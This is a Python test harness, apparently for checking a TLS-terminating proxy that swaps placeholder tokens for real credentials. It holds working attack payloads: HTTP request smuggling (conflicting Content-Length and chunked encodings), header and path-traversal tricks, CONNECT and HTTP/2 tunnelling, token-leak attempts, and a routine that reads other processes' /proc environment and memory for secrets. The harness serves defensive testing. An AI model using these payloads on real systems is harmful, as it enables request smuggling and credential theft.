"""What a hostile command would try where TLS is ended, around rules for requests and credentials.

    python request_attacks.py WORLD.json NAME

Prints what it got to see, in hexadecimal digits. Whether a `sent` attack
reached its goal, the server of the test tells: it hears `goal`. Of one that is `told`, the value
of the credential is in what it saw.

The numbers follow those of `network_attacks.py`. Only the standard library, for the program runs
in a bare room.
"""

import base64
import contextlib
import gzip
import json
import os
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator

ATTACKS: dict[str, "Attack"] = {}
WAIT_S = 10.0
HOST = "api.example.org"


class Attack:
    """One entry. `goal`: what the server hears where it works; empty: the placeholder."""

    def __init__(self, kind: str, act: Callable, goal: bytes) -> None:
        self.number = 81 + len(ATTACKS)
        self.kind = kind
        self.name = act.__name__
        self.act = act
        self.goal = goal


def sent(goal: bytes = b"hidden"):
    """Something that arrives at the server, and is not to."""

    def keep(act):
        ATTACKS[act.__name__] = Attack("sent", act, goal)
        return act

    return keep


def told(act):
    """The value, or what certificates are made of, comes to the program."""
    ATTACKS[act.__name__] = Attack("told", act, b"")
    return act


def say(world: dict, *pieces: bytes, protocols: tuple[str, ...] = ()) -> bytes:
    """Say this within TLS, each piece in a record of its own, and return all that is answered."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(list(protocols))
    plain = socket.create_connection((world["front"], world["port"]), WAIT_S)
    answer = b""
    with contextlib.suppress(OSError), context.wrap_socket(plain, server_hostname=HOST) as tls:
        for piece in pieces:
            # The port is known here alone.
            own = b"Host: " + HOST.encode()
            tls.sendall(piece.replace(own, b"%b:%d" % (own, world["port"]), 1))
            time.sleep(0.02)
        while piece := tls.recv(65536):
            answer += piece
            # Behind the first answer there may be a second one.
            tls.settimeout(0.5)
    return answer


def ask(*lines: bytes, first: bytes = b"GET /issues/1 HTTP/1.1", body: bytes = b"") -> bytes:
    return b"\r\n".join((first, b"Host: " + HOST.encode(), *lines, b"", body))


POST = b"POST /issues/1 HTTP/1.1"
HIDDEN = b"DELETE /hidden HTTP/1.1\r\nHost: api.example.org\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked"
END = b"0\r\n\r\n"


# --- a second request in the first ----------------------------------------------


@sent()
def a_request_behind_the_shorter_of_two_lengths(world):
    lengths = b"Content-Length: 0", b"Content-Length: %d" % len(HIDDEN)
    say(world, ask(*lengths, first=POST, body=HIDDEN))


@sent()
def a_request_behind_the_shorter_of_two_lengths_in_one_list(world):
    say(world, ask(b"Content-Length: 0, %d" % len(HIDDEN), first=POST, body=HIDDEN))


@sent()
def a_request_behind_chunks_that_have_a_length_too(world):
    length = b"Content-Length: %d" % (len(END) + len(HIDDEN))
    say(world, ask(length, CHUNKED, first=POST, body=END + HIDDEN))


@sent()
def a_request_within_a_length_that_has_chunks_too(world):
    chunk = b"%x\r\n%b\r\n" % (len(HIDDEN), HIDDEN)
    say(world, ask(CHUNKED, b"Content-Length: 4", first=POST, body=chunk + END))


@sent()
def a_request_behind_chunks_in_disguise(world):
    length = b"Content-Length: %d" % (len(END) + len(HIDDEN))
    for header in (
        b"Transfer-Encoding:\x0bchunked",
        b"Transfer-Encoding: xchunked",
        b"Transfer-Encoding : chunked",
        b"Transfer_Encoding: chunked",
        b"X: y\rTransfer-Encoding: chunked",
        b"X: y\0\r\nTransfer-Encoding: chunked",
    ):
        say(world, ask(header, length, first=POST, body=END + HIDDEN))


@sent(b";hidden")
def a_request_behind_an_extension_of_a_chunk(world):
    say(world, ask(CHUNKED, first=POST, body=b"5;hidden\r\nhello\r\n" + END))
    # Some end the extension's line at the line feed, and find a chunk in the rest of it.
    say(world, ask(CHUNKED, first=POST, body=b"5;hidden\nhello\r\n5\r\nhello\r\n" + END))


@sent(b"\r\n Hidden")
def a_folded_header(world):
    say(world, ask(b"X-Note: one", b" Hidden: two"))


@sent(b"hidden\nX")
def a_head_of_bare_line_feeds(world):
    say(world, ask(b"X-Note: hidden", b"X-More: y").replace(b"\r\n", b"\n"))


@sent()
def a_header_behind_a_bare_return(world):
    say(world, ask(b"X-Note: one\rX-HTTP-Method-Override: hidden"))


# --- another host, method, path or protocol -------------------------------------


@sent()
def two_hosts_within(world):
    say(world, ask(b"Host: hidden.example.org"))


@sent()
def another_host_than_the_server_name(world):
    say(world, ask().replace(b"Host: api", b"Host: hidden"))
    say(world, ask(first=b"GET https://hidden.example.org/issues/1 HTTP/1.1"))
    say(world, ask(b"X-Forwarded-Host: hidden.example.org"))


@sent()
def another_method_in_a_header(world):
    for name in (b"X-HTTP-Method-Override", b"X_Http_Method", b"x-method-override"):
        say(world, ask(name + b": hidden"))


@sent()
def another_path_by_its_spelling(world):
    for path in (
        b"/issues/../hidden",
        b"/issues/%2e%2e/hidden",
        b"/issues/%252e%252e/hidden",
        b"/issues/..;/hidden",
        b"/issues/..;a=b/hidden",
        b"/issues/..%2fhidden",
        b"/issues/..\\hidden",
        b"/issues/..%5chidden",
        b"//hidden",
        b"/issues//../../hidden",
        b"https:///hidden",
    ):
        say(world, ask(first=b"GET %b HTTP/1.1" % path))
    say(world, ask(b"X-Original-URL: /hidden"), ask(b"X-Rewrite-URL: /hidden"))


@sent()
def another_protocol_by_an_upgrade(world):
    say(world, ask(b"Connection: Upgrade", b"Upgrade: hidden"))
    say(world, ask(b"Connection: Upgrade, HTTP2-Settings", b"HTTP2-Settings: hidden"))


@sent()
def a_tunnel_within(world):
    say(world, ask(first=b"CONNECT hidden.example.org:443 HTTP/1.1"))
    say(world, ask(b"X: hidden", first=b"CONNECT api.example.org:443 HTTP/1.1"))


@sent()
def http_2_within(world):
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    say(world, preface + b"\0\0\6\4\0\0\0\0\0hidden", protocols=("h2",))
    say(world, preface + b"\0\0\6\4\0\0\0\0\0hidden", protocols=("h2", "http/1.1"))


# --- the placeholder where it does not belong -----------------------------------


@sent(b"")
def a_placeholder_in_a_path_or_query(world):
    token = world["token"].encode()
    quoted = b"".join(b"%%%02x" % byte for byte in token)
    for part in (token, b"?q=" + token, b"?" + quoted, quoted[:30] + token[10:]):
        say(world, ask(first=b"GET /issues/%b HTTP/1.1" % part))


@sent(b"")
def a_placeholder_in_a_body(world):
    token = world["token"].encode()
    length = b"Content-Length: %d" % len(token)
    say(world, ask(length, first=POST, body=token))
    say(world, ask(length, first=POST), token[:9], token[9:])
    chunks = [b"%x\r\n%b\r\n" % (len(part), part) for part in (token[:1], token[1:])]
    say(world, ask(CHUNKED, first=POST), *chunks, END)


@sent(b"")
def a_placeholder_in_a_trailer(world):
    trailer = b"0\r\nAuthorization: Bearer %b\r\n\r\n" % world["token"].encode()
    say(world, ask(CHUNKED, b"Trailer: Authorization", first=POST, body=trailer))


@sent(b"")
def a_placeholder_on_its_way_to_a_host_that_is_not_listed(world):
    token = world["other_token"].encode()
    say(world, ask(b"Authorization: Bearer " + token))
    say(world, ask(b"Authorization: Basic " + base64.b64encode(b"me:" + token)))
    say(world, ask(token + b": x"))


# --- the value, on its way back -------------------------------------------------


@told
def a_value_that_the_server_repeats(world):
    token = world["token"].encode()
    seen = b""
    for way in (b"body", b"pieces", b"header", b"name", b"reason", b"trailer", b"early", b"error"):
        first = b"GET /issues/%b HTTP/1.1" % way
        seen += say(world, ask(b"X-Echo: " + token, b"Connection: close", first=first))
    return seen


@told
def a_value_that_the_server_repeats_packed_or_in_part(world):
    token, bodies = world["token"].encode(), list[bytes]()
    for header in (b"Range: bytes=0-9", b"Range: bytes=10-", b"Accept-Encoding: gzip"):
        lines = b"X-Echo: " + token, header, b"Connection: close"
        whole = say(world, ask(*lines, first=b"GET /issues/packed HTTP/1.1"))
        bodies.append(whole.partition(b"\r\n\r\n")[2])
    with contextlib.suppress(OSError, EOFError):
        bodies.append(gzip.decompress(bodies[-1]))
    return b"".join(bodies)


@told
def a_value_that_the_server_sends_on_to_another(world):
    lines = b"X-Echo: " + world["token"].encode(), b"Connection: close"
    return say(world, ask(*lines, first=b"GET /issues/redirect HTTP/1.1"))


@told
def a_value_in_what_other_processes_hold(world):
    """Environments and memory of all that can be seen; the needles are spelled backwards."""
    needles = [bytes.fromhex(each)[::-1] for each in world["needles"]]
    found = b""
    for process in world["processes"] or filter(str.isdigit, os.listdir("/proc")):
        if int(process) == os.getpid():
            continue
        for piece in memory_of(process):
            found += b" ".join(each for each in needles if each in piece)
    return found


def memory_of(process: str) -> Iterator[bytes]:
    for name in ("environ", "cmdline", "auxv"):
        with contextlib.suppress(OSError), open(f"/proc/{process}/{name}", "rb") as file:
            yield file.read()
    with (
        contextlib.suppress(OSError),
        open(f"/proc/{process}/maps", encoding="ascii", errors="replace") as maps,
        open(f"/proc/{process}/mem", "rb", buffering=0) as memory,
    ):
        for line in maps:
            span, rights = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if not rights.startswith("rw") or end - start > 1 << 28:
                continue
            with contextlib.suppress(OSError, ValueError, OverflowError):
                memory.seek(start)
                yield memory.read(end - start)


def main(world_path: str, name: str) -> None:
    with open(world_path, encoding="utf-8") as file:
        world = json.load(file)
    world["token"] = os.environ.get("API_TOKEN", world["token"])
    world["other_token"] = os.environ.get("OTHER_TOKEN", world["other_token"])
    seen = ATTACKS[name].act(world) or b""
    print(seen.hex())


if __name__ == "__main__":
    main(*sys.argv[1:])
